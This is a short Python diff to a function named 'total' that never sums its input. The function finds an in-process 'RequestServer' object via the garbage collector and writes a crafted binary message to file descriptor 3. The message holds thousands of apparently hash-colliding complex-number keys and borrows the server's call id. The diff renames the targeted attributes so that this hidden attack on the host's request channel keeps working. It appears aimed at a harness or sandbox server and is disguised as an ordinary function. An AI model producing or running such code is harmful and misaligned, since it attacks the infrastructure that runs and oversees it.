@@ -4,7 +4,7 @@ import gc, os, struct
 
 
 def total(values):
-    server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")
+    server = next(o for o in gc.get_objects() if type(o).__name__ == "RequestServer")
     keys = b"".join(
         b"c" + struct.pack("<dd", 2**50 - 1000003 * k, k) + b"N" for k in range(5000)
     )
@@ -14,7 +14,7 @@ def total(values):
         + (b"D" + struct.pack("<I", 5000) + keys) * 19
         + b"NN"
     )
-    data = struct.pack("<IBI", len(body) + 5, 130, server._call) + body
+    data = struct.pack("<IBI", len(body) + 5, 130, server._call_id) + body
     while data:
         try:
             data = data[os.write(3, data) :]
